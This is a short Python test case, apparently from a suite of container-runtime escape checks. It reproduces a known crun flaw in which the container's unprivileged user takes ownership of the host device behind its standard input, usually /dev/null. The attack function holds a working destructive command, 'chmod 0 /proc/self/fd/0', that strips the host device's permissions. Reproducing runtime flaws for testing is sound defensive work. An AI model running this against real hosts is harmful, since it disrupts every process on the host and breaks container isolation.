"""The program becomes the owner of the device that its standard input is, the host's `/dev/null` usually, and takes it from everybody."""

from bypass import inert

SOURCE = "containers/crun a9d12996: crun before 1.24 gives devices to the container's user"
WAY = "create"
STOPPED = inert("both low-level runtimes leave it; where they do not, the stream is a node of its own for the same device")
BARE = "at a create runc leaves /dev/null as it is, and crun opens the container's own; at an exec crun does not"


def attack(t):
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    changed = t.stdin_device(0o020000, 1, 3)
    t.run("chmod 0 /proc/self/fd/0; cat")
    return changed()
